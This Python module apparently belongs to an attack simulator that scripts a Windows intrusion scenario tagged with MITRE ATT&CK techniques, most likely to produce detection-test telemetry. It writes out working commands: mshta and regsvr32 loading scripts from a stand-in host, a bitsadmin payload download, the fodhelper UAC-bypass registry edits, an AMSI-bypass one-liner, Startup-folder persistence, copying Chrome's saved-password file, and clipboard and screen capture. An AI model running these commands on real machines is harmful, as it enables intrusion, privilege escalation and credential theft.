"""A link that opens an HTML application, Windows' own tools, rights by a trick, an eye on the keyboard."""

from tocsin.sources.simulator.attack import Move, Playing

MOVES = (
    Move("An HTML application is run from the web", "TA0005", "T1218.005"),
    Move("BITS fetches a program", "TA0005", "T1197"),
    Move("Regsvr32 runs a script from the web", "TA0005", "T1218.010"),
    Move("Fodhelper starts it with full rights, unasked", "TA0004", "T1548.002"),
    Move("PowerShell's virus interface is blinded", "TA0112", "T1685"),
    Move("The Startup folder starts it again", "TA0003", "T1547.001"),
    Move("The passwords of the browser are copied", "TA0006", "T1555.003"),
    Move("The clipboard is read", "TA0009", "T1115"),
    Move("The screen is photographed", "TA0009", "T1113"),
    Move("It calls home every minute", "TA0011", "T1071.001", "correlation"),
)

_CALLS = 20
_AMSI = (
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')."
    "GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"
)
_SCREEN = (
    "Add-Type -AssemblyName System.Windows.Forms; $b = New-Object System.Drawing.Bitmap(1920, 1080); "
    "$g = [System.Drawing.Graphics]::FromImage($b); $g.CopyFromScreen(0, 0, 0, 0, $b.Size)"
)


def play(playing: Playing) -> None:
    """Write the whole scenario."""
    victim = playing.pick(playing.fleet.workstations or playing.fleet.hosts, "victim")
    user, name, server = victim.owner.folder, "cdn.parcel-tracking.example", "203.0.113.250"
    browser = playing.start(0, victim, playing.desktop_of(victim, 2600), "chrome", "{image} ")
    playing.begin(MOVES, 1)
    mshta = playing.start(
        35, victim, browser, "mshta", f'"C:\\Windows\\System32\\mshta.exe" http://{name}/parcel/{playing.number}.hta'
    )
    playing.look_up(35.5, victim, mshta, name, server)
    playing.connect(35.6, victim, mshta, server, 80)
    playing.begin(MOVES, 2)
    program = f"C:\\Users\\{user}\\AppData\\Local\\Temp\\prn{playing.number}.exe"
    fetch = f"bitsadmin  /transfer parcel /download /priority high http://{name}/p.bin {program}"
    playing.start(50, victim, mshta, "bitsadmin", fetch)
    playing.begin(MOVES, 3)
    script = f"regsvr32.exe  /s /n /u /i:http://{name}/parcel.sct scrobj.dll"
    registered = playing.start(120, victim, mshta, "regsvr32", script)
    playing.connect(121, victim, registered, server, 80)
    shell = playing.start(122, victim, registered, "powershell", "powershell.exe  -nop -ep bypass -w hidden -")
    playing.begin(MOVES, 4)
    command = "Software\\Classes\\ms-settings\\shell\\open\\command"
    playing.set_value(300, victim, shell, "HKCU_Classes\\ms-settings\\shell\\open\\command\\(Default)", program)
    playing.set_value(300.2, victim, shell, f"HKCU\\{command}\\DelegateExecute", "(Empty)")
    helper = playing.start(
        301, victim, shell, "fodhelper", '"C:\\Windows\\system32\\fodhelper.exe" ', shell.session.elevated()
    )
    playing.start(301.6, victim, helper, "cmd", f'"C:\\Windows\\system32\\cmd.exe" /c start {program}')
    playing.begin(MOVES, 5)
    playing.script(420, victim, shell, _AMSI, is_suspicious=True)
    playing.begin(MOVES, 6)
    startup = f"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"
    playing.create_file(500, victim, shell, f"{startup}\\Parcel.vbs")
    playing.begin(MOVES, 7)
    logins = f"C:\\Users\\{user}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data"
    copied = f'"C:\\Windows\\system32\\cmd.exe" /c copy "{logins}" C:\\Users\\Public\\ld.tmp'
    playing.start(760, victim, shell, "cmd", copied)
    playing.begin(MOVES, 8)
    playing.script(1000, victim, shell, "while ($true) { Get-Clipboard | Add-Content $log; Start-Sleep 5 }")
    playing.begin(MOVES, 9)
    playing.script(1300, victim, shell, _SCREEN, is_suspicious=True)
    playing.begin(MOVES, 10)
    for call in range(_CALLS):
        playing.connect(1310 + 60 * call, victim, shell, server, 443)
    playing.pause()
